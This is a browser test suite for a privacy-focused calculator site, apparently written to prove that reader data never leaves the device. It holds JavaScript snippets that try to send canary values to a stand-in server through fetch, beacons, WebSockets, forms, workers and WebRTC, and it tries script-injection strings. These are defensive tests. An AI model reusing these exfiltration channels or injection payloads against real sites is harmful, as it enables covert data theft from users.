"""Nothing a reader types leaves the device: every request of every page and tool, as the server sees it."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Protocol

import pytest
from playwright.sync_api import BrowserContext, Page, Request, expect

import environment
from publish.serving import running
from tests.browser.elsewhere import Elsewhere
from tests.browser.entries import (
    AGREEMENT,
    IS_KEPT,
    NAME,
    press_everything,
    stored,
    type_everywhere,
    wait_for_answers,
    wait_until,
)
from tests.noted import Noted, noting
from website import offline

CANARIES = ("18,637.91", "18637", "7391", "金丝雀")
TOOL_PAGES = (
    "calculator/", "ledger/", "steps/terms/", "steps/channel/", "steps/account/", "steps/credit/", "steps/cautions/",
    "self-check/",
)  # fmt: skip


class Watch(Protocol):
    """What conftest.py gives as `watch`."""

    def expect(self, pattern: str) -> None: ...


@pytest.fixture
def noted(site: Path, watch: Watch) -> Iterator[Noted]:
    """The site, served by who writes everything down."""
    watch.expect("another place: http://127.0.0.1:")  # the watch knows the other server; `seen` is asked below
    with noting(site) as server:
        yield server


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    """A server that is not the site."""
    with Elsewhere() as server:
        yield server


@pytest.fixture
def page(new_context: Callable[..., BrowserContext]) -> Page:
    """One page of a fresh reader."""
    return new_context().new_page()


@pytest.fixture
def reader(new_context: Callable[..., BrowserContext]) -> Page:
    """A reader with all that a browser brings, and a note of every request it makes."""
    page = new_context(service_workers="allow").new_page()
    page.context.grant_permissions(["clipboard-write"])
    return page


def follow(page: Page) -> list[Request]:
    """The requests of the page's whole context, from now on."""
    requests: list[Request] = []
    page.context.on("request", lambda request: requests.append(request))  # noqa: PLW0108 - not a built-in
    return requests


def published(site: Path) -> set[str]:
    """Every address of the site, and nothing else."""
    files = (file.relative_to(site).as_posix() for file in site.rglob("*") if file.is_file())
    return {"/some/where/" + offline.address(name) for name in files}


def assert_plain(server: Noted, site: Path, but: frozenset[str] = frozenset()) -> None:
    """Check that each request asked for a published file by its bare name, and told nothing of the reader."""
    addresses = published(site)
    for method, path, headers in server.seen:
        assert method == "GET", path
        assert path in addresses | but, path
        assert not {"cookie", "content-length", "transfer-encoding"} & {*headers}, (path, headers)
        assert headers.get("referer", "").partition("/some/where/")[2] in WITHOUT_POLICY, (path, headers["referer"])
        assert not any(canary in json.dumps(headers, ensure_ascii=False) for canary in CANARIES)


SEND_FROM_PAGE = """(url) => {
  const element = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
  const frame = (name) => {
    element("iframe", { name, hidden: true });
    return name;
  };
  const ways = {
    fetch: () => fetch(url + "fetch", { method: "POST", mode: "no-cors", body: "18637" }),
    keepalive: () => fetch(url + "keepalive", { mode: "no-cors", keepalive: true }),
    request: () => { const r = new XMLHttpRequest(); r.open("GET", url + "request"); r.send(); },
    beacon: () => navigator.sendBeacon(url + "beacon", "18637"),
    socket: () => new WebSocket(url.replace("http", "ws") + "socket"),
    events: () => new EventSource(url + "events"),
    import: () => import(url + "import"),
    worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${url}worker", { mode: "no-cors" })`]))),
    image: () => element("img", { src: url + "image" }),
    script: () => element("script", { src: url + "script" }),
    style: () => element("link", { rel: "stylesheet", href: url + "style" }),
    prefetch: () => element("link", { rel: "prefetch", href: url + "prefetch" }),
    sound: () => element("audio", { src: url + "sound", preload: "auto" }),
    frame: () => element("iframe", { src: url + "frame" }),
    object: () => element("object", { data: url + "object" }),
    form: () => {
      const form = document.createElement("form");
      Object.assign(form, { action: url + "form", method: "post", target: frame("post") });
      document.body.append(form);
      form.submit();
    },
  };
  for (const way of Object.values(ways)) {
    try { Promise.resolve(way()).catch(() => {}); } catch {}
  }
  return Object.keys(ways);
}"""

WITHOUT_POLICY = ("", "service-worker.js")
"""Who may name itself when it asks: the service worker, for which a page's `no-referrer` does not count."""


def own_requests_only(requests: list[Request], server: Noted) -> None:
    """Check that each request went to the site or stayed inside the page."""
    assert {request.url for request in requests if not request.url.startswith((server.url, "blob:", "data:"))} == set()
    assert [request.url for request in requests if request.post_data] == []


def test_every_page_asks_for_published_files_alone(reader: Page, noted: Noted, site: Path) -> None:
    """No other host, no query, no cookie, no referrer, on any page that is built; and no page keeps a cookie."""
    requests = follow(reader)
    pages = sorted(offline.address(file.relative_to(site).as_posix()) for file in site.rglob("*.html"))
    for name in pages:
        reader.goto(noted.url + name, wait_until="load")
        assert reader.evaluate("document.referrer") == ""
    paths = {path.removeprefix("/some/where/") for _, path, _ in noted.seen}

    assert len(pages) >= 29
    assert {*pages} <= paths
    own_requests_only(requests, noted)
    assert_plain(noted, site)
    assert reader.context.cookies() == []
    print(f"{len(pages)} pages, {len(requests)} requests in the browser, {len(noted.seen)} at the server")  # noqa: T201


def agree(page: Page) -> None:
    """Type in an agreement and wait for the answer."""
    page.locator("label[for=method]").click()
    for name in ("principal", "periods", "first_due"):
        page.locator(f"#{name}").fill(AGREEMENT[name])
    expect(page.locator("[data-calculator]")).to_have_attribute("data-answer", "own")


def test_every_tool_works_with_the_network_cut_and_asks_for_nothing(reader: Page, noted: Noted, site: Path) -> None:
    """A whole session: once loaded, every tool of every page answers, and the server hears nothing."""
    reader.goto(noted.url + "calculator/")
    reader.locator("[data-calculator][data-runtime=ready]").wait_for()
    wait_until(reader, IS_KEPT)
    reader.context.set_offline(True)
    before = len(noted.seen)
    agree(reader)
    used = [use(reader, noted.url, name) for name in TOOL_PAGES]

    # The browser looks by itself whether the service worker has changed, and cuts that line for nobody.
    assert {path for _, path, _ in noted.seen[before:]} <= {"/some/where/service-worker.js"}
    assert_plain(noted, site)
    assert min(used) > 0
    assert sum(used) > 60


def use(page: Page, root: str, name: str) -> int:
    """How many entries and buttons of the page were used; its address, title, history and referrer tell none of it."""
    if name != "calculator/":
        page.goto(root + name)
    title = page.title()
    page.evaluate("document.querySelector('[data-tool], [data-calculator]').dispatchEvent(new Event('pointerdown'))")
    page.locator("[data-runtime=ready]").first.wait_for(state="attached")
    requests = follow(page)
    used = type_everywhere(page) + press_everything(page)
    wait_for_answers(page)
    told = page.evaluate("[location.href, document.title, document.referrer, JSON.stringify(history.state), name]")

    assert page.url.partition("#")[0] == root + name
    assert page.title() == title
    assert not [canary for canary in CANARIES if canary in "\n".join(map(str, told))]
    asked = {request.url.removeprefix(root) for request in requests if not request.url.startswith("blob:")}
    assert asked <= {"search/search_index.json"}  # the whole of it, and searched here; out of the copy
    return used


def test_an_agreement_in_a_link_is_never_sent(reader: Page, noted: Noted, site: Path) -> None:
    """What stands behind the # stays in the browser, and is out of its address before anything can be clicked."""
    reader.goto(noted.url + "calculator/#f=eyJwcmluY2lwYWwiOiIxODYzNyJ9")
    expect(reader.locator("#principal")).to_have_value("18637")
    reader.reload()

    assert "#f=" not in reader.url
    assert reader.evaluate("JSON.stringify([history.state, document.referrer])") == '[null,""]'
    assert_plain(noted, site)


@pytest.mark.parametrize("name", ["calculator/", "about/"])
def test_the_page_itself_cannot_send_anything_out(name: str, page: Page, elsewhere: Elsewhere, watch: Watch) -> None:
    """Not even a script that got onto it: the policy holds back every way out that a page has."""
    watch.expect("policy|Policy|another place|Refused|violates|Failed|blocked")
    page.goto(name)

    page.evaluate(SEND_FROM_PAGE, elsewhere.url)
    page.wait_for_timeout(700)

    assert elsewhere.seen == []


BY_WEBRTC = """async (port) => {
  const line = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  line.createDataChannel("18637");
  await line.setLocalDescription(await line.createOffer());
  await new Promise((done) => setTimeout(done, 700));
  line.close();
}"""


def test_the_one_way_that_no_policy_shuts_is_named(page: Page, watch: Watch) -> None:
    """WebRTC: no browser has a rule for it. A script on the page could use it, the worker with Python could not.

    The day this fails, a browser has learnt to shut it, and THREATS.md and /verify/ may say so.
    """
    watch.expect("another place|ERR_")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listening:
        listening.bind(("127.0.0.1", 0))
        listening.settimeout(3)
        page.goto("calculator/")
        page.locator("[data-calculator][data-runtime=ready]").wait_for()
        page.evaluate(BY_WEBRTC, listening.getsockname()[1])
        heard = listening.recv(2_000)
    (worker,) = (each for each in page.workers if each.url.startswith("blob:"))

    assert heard[4:8] == bytes.fromhex("2112a442")  # the mark of every STUN message
    assert worker.evaluate("typeof RTCPeerConnection") == "undefined"
    for file in ("THREATS.md", "docs/verify.md"):
        assert "WebRTC" in (environment.ROOT / file).read_text(encoding="utf-8"), file


MAKE_A_SCRIPT = """async () => {
  const rule = (name) => trustedTypes.createPolicy(name, { createScriptURL: (url) => url }).createScriptURL("x.js");
  const ways = {
    html: () => { document.body.innerHTML = "<img src=x onerror=run()>"; },
    parser: () => new DOMParser().parseFromString("<p>", "text/html"),
    script: () => { document.createElement("script").src = "x.js"; },
    words: () => { document.createElement("script").text = "run()"; },
    worker: () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    "by another rule": () => new Worker(rule("mine")),
    "by the rule of the page": () => new Worker(rule("worker")),
    "service worker": () => navigator.serviceWorker.register("x.js"),
  };
  const said = {};
  for (const [name, way] of Object.entries(ways))
    try { await way(); said[name] = "made"; } catch (problem) { said[name] = problem.name; }
  return said;
}"""


def test_no_text_becomes_a_script(reader: Page, watch: Watch) -> None:
    """Trusted Types: whoever finds a way to put text where a script is made is refused by the browser."""
    watch.expect("policy|Policy|Trusted")
    reader.goto("calculator/")
    said = reader.evaluate(MAKE_A_SCRIPT)

    assert len(said) == 8
    assert {*said.values()} == {"TypeError"}


SEND_THE_PAGE_ITSELF = """(url) => {
  const form = Object.assign(document.createElement("form"), { action: url + "top", method: "post" });
  document.body.append(form);
  form.submit();
}"""


def test_the_page_cannot_be_sent_away_as_a_form(page: Page, elsewhere: Elsewhere, watch: Watch) -> None:
    """A form of a stranger's, without a frame to catch it: the page stays where it is."""
    watch.expect("policy|Policy|another place|form-action")
    page.goto("about/")
    page.evaluate(SEND_THE_PAGE_ITSELF, elsewhere.url)
    page.wait_for_timeout(700)

    assert elsewhere.seen == []
    assert page.url.endswith("/about/")


def test_a_page_without_the_policy_could(page: Page, elsewhere: Elsewhere, tmp_path: Path, watch: Watch) -> None:
    """So the test above tests the policy: every one of those ways is open by nature."""
    watch.expect(".")
    (tmp_path / "index.html").write_text('<!doctype html><link rel="icon" href="data:,">', encoding="utf-8")
    with running(tmp_path) as server:
        page.goto(server.url)
        ways = page.evaluate(SEND_FROM_PAGE, elsewhere.url)
        page.wait_for_timeout(1_500)

    assert {path.strip("/") for path in elsewhere.seen} == {*ways}


def test_one_button_erases_all_that_is_kept(reader: Page, noted: Noted, site: Path) -> None:
    """This tab, another tab, the device, the palette, the kept copy and its worker: nothing is left of them."""
    reader.goto(noted.url + "calculator/")
    other = reader.context.new_page()
    other.goto(noted.url + "calculator/")
    other.locator("#principal").fill("7391")
    agree(reader)
    reader.locator("[data-switch-scheme]").first.click()
    reader.locator(".mine summary").first.click()
    reader.get_by_text("记在这台设备上").click()
    wait_until(reader, IS_KEPT)
    full = stored(reader)
    reader.get_by_role("button", name="全部清除").click()
    wait_until(reader, "async () => !(await caches.keys()).length")

    assert CANARIES[0] in full["localStorage"][NAME]
    assert full["localStorage"][f"{NAME} scheme"] == "dark"
    assert full["workers"] == [noted.url]
    nothing: dict[str, Any] = {kind: type(kept)() for kind, kept in full.items()}
    assert stored(reader) == nothing
    assert stored(other) == nothing
    expect(other.locator("#principal")).to_have_value("")
    assert reader.context.cookies() == []
    reader.get_by_role("button", name="撤销，都放回来").click()
    expect(reader.locator("#principal")).to_have_value(AGREEMENT["principal"])
    assert_plain(noted, site)


def test_nothing_is_kept_on_the_device_unasked(reader: Page, noted: Noted) -> None:
    """What is typed lies with the tab alone, until the reader asks for more."""
    reader.goto(noted.url + "calculator/")
    agree(reader)
    kept = stored(reader)

    assert kept["localStorage"] == {}
    assert kept["indexedDB"] == []
    assert kept["cookies"] == ""
